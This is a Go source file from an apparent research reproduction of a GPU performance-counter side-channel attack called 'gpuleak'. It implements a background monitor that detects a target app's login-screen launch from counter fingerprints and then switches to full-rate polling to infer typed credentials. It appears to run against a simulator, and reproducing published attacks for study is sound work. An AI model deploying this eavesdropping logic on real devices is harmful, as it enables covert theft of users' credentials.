package attack

import (
	"context"
	"errors"
	"math"

	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// Figure 4's Online Phase begins with a monitoring service that runs in
// the background and watches for the launch of a target application; only
// then does the attacker start full-rate counter polling and inference.
// The paper cites procfs-based app-detection techniques [14,15,49,50] for
// this step and notes they reach >90% accuracy over >100 apps; here the
// launch is detected from the GPU counters themselves: an app launch is a
// full-screen first render whose counter fingerprint matches one of the
// preloaded per-configuration models. Low-duty polling while waiting
// keeps the background service cheap (§7.6).

// launchTolerance is the relative fingerprint mismatch accepted as a
// launch. Different login screens sit ~2-4% apart in relative
// fingerprint distance while a re-render of the same screen stays within
// ~0.1%.
const launchTolerance = 0.01

// MonitorResult reports a monitored eavesdropping run.
type MonitorResult struct {
	// LaunchDetectedAt is when the monitor saw the target app start.
	LaunchDetectedAt sim.Time
	// Detected reports whether a launch fingerprint fired at all.
	Detected bool
	// IdleReads counts the low-duty polls spent waiting.
	IdleReads int
	// Result is the credential inference from the detection point on
	// (nil when no launch was detected).
	Result *Result
}

// MonitorAndEavesdrop runs the full Figure-4 online phase: low-duty
// polling (every 4 eavesdropping intervals) until a target-app launch
// fingerprint appears, then full-rate eavesdropping until end. f is any
// Probe; with a.Retry enabled, transient device errors during the idle
// wait cost at most the missed tick (plus a re-reservation when the
// counter group was revoked) instead of aborting the watch.
func (a *Attack) MonitorAndEavesdrop(f Probe, start, end sim.Time) (*MonitorResult, error) {
	return a.monitor(context.Background(), f, start, end)
}

// monitor is MonitorAndEavesdrop with ctx bounding the full-rate phase,
// which polls and runs Algorithm 1 in one loop.
func (a *Attack) monitor(ctx context.Context, f Probe, start, end sim.Time) (*MonitorResult, error) {
	interval := a.Interval
	if interval <= 0 {
		interval = DefaultInterval
	}
	idleInterval := windowsFor(interval).idle

	s, err := NewSamplerTaxonomy(f, idleInterval, a.Retry, a.Errors)
	if err != nil {
		return nil, err
	}
	s.Obs = a.Obs

	var idle *obs.Span
	if a.Obs.Enabled() {
		idle = a.Obs.Start(start, evIdleWait, obs.Int("idle_interval_us", int(idleInterval)))
	}
	out := &MonitorResult{}
	prev, err := f.ReadSelected(start)
	havePrev := err == nil
	if err != nil && (!a.Retry.Enabled() || !a.retryable(err)) {
		return nil, &SampleError{At: start, Op: "read", Attempts: 1, Err: err}
	}
	// Recent non-zero deltas; a launch frame may split across two idle
	// reads, so suffix sums of the last few deltas are matched too.
	type recent struct {
		at sim.Time
		v  trace.Vec
	}
	var win []recent

	var detected *Model
	var detectedAt sim.Time
	badTicks := 0
	for t := start + idleInterval; t <= end; t += idleInterval {
		cur, err := f.ReadSelected(t)
		if err != nil {
			// A transient failure while idling costs at most the missed
			// tick: a launch fingerprint spans several reads, so the
			// low-duty watcher tolerates holes the same way the full-rate
			// sampler converts them into trace gaps.
			if !a.Retry.Enabled() || !a.retryable(err) {
				return nil, &SampleError{At: t, Op: "read", Attempts: 1, Err: err}
			}
			badTicks++
			if a.Retry.MaxBadTicks > 0 && badTicks > a.Retry.MaxBadTicks {
				return nil, &SampleError{At: t, Op: "read", Attempts: badTicks, Err: err}
			}
			if errors.Is(err, a.taxonomy().NotReserved) {
				// Best effort: re-reserve now so the next tick can read.
				_ = f.ReserveSelected(t)
			}
			continue
		}
		badTicks = 0
		out.IdleReads++
		if !havePrev {
			prev = cur
			havePrev = true
			continue
		}
		var d trace.Vec
		changed := false
		for i := range d {
			d[i] = float64(cur[i]) - float64(prev[i])
			if cur[i] != prev[i] {
				changed = true
			}
		}
		prev = cur
		if !changed {
			continue
		}
		win = append(win, recent{at: t, v: d})
		if len(win) > 3 {
			win = win[1:]
		}
		// Match every suffix sum against every model fingerprint.
		var sum trace.Vec
		for i := len(win) - 1; i >= 0; i-- {
			if win[i].at < t-2*idleInterval-sim.Millisecond {
				break
			}
			sum = sum.Add(win[i].v)
			for _, m := range a.Models {
				if launchMatch(m, sum) <= launchTolerance {
					detected = m
					detectedAt = t
					break
				}
			}
			if detected != nil {
				break
			}
		}
		if detected != nil {
			break
		}
	}
	idle.AddField(obs.Int("idle_reads", out.IdleReads))
	a.Obs.Metrics().Add(mMonitorIdleReads, int64(out.IdleReads))
	if detected == nil {
		idle.End(end)
		return out, nil
	}
	idle.End(detectedAt)
	if a.Obs != nil {
		a.Obs.Emit(detectedAt, evLaunchDetected, obs.Str("model", detected.Key.String()))
	}
	out.Detected = true
	out.LaunchDetectedAt = detectedAt

	// Full-rate eavesdropping from the detection point.
	s.Interval = interval
	o := newOnline(a, interval, detected, nil)
	var tr trace.Trace
	if err := s.poll(ctx, detectedAt, end, &tr, o.push); err != nil {
		return nil, err
	}
	res, err := o.finish()
	if err != nil {
		return nil, err
	}
	res.addRecovery(s.Stats)
	out.Result = res
	return out, nil
}

// launchMatch scores a candidate launch delta against a model's
// fingerprint: relative weighted distance.
func launchMatch(m *Model, v trace.Vec) float64 {
	norm := m.Launch.Norm(m.Weights)
	if norm <= 0 {
		return math.Inf(1)
	}
	return v.Dist(m.Launch, m.Weights) / norm
}
